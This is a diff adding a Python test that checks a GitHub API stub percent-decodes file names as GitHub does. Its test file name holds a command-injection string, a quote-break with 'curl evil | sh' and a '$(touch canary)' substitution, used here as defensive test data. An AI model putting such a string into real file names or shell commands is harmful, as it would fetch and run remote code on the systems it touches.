@@ -351,3 +351,18 @@ def test_run_as_a_program_prints_its_url_and_keeps_state_in_a_file(
     log = list(iter_requests(state.with_name("state.json.requests.jsonl")))
     assert [(r["method"], r["status"]) for r in log] == [("PATCH", 503), ("PATCH", 200)]
     assert saved["faults"] == []
+
+
+def test_a_file_name_is_percent_decoded_as_github_does(tmp_path: Path) -> None:
+    """The contents API's ``{path}`` arrives percent-encoded from PyGithub; a name with
+    quotes, spaces, ``#`` and ``$`` is found as GitHub finds it."""
+    from orchestration.github.api import connect
+
+    name = 'docs/"; curl evil | sh; #$(touch canary).drawio'
+    sha = "ec26c3e57ca3a959ca5aad62de7213c562f8c821"
+    with GitHubStub(record=tmp_path / "requests.jsonl") as server:
+        server.set_file("octo/repo", sha, name, b"<mxfile/>")
+        github = connect("test-token", api_url=server.url).github
+        content = github.get_repo("octo/repo").get_contents(name, ref=sha)
+        assert content.decoded_content == b"<mxfile/>"
+        assert [r["operation"] for r in server.requests()][-1] == "repos/get-content"
